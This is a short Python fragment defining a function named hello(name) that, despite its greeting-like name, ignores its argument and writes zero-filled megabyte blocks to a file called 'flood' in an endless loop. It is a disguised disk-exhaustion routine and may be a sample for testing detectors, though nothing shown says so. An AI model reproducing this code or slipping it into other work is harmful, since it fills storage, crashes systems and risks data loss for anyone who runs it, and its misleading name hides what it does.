def hello(name):
    with open("flood", "wb") as stream:
        while True:
            stream.write(bytes(2**20))
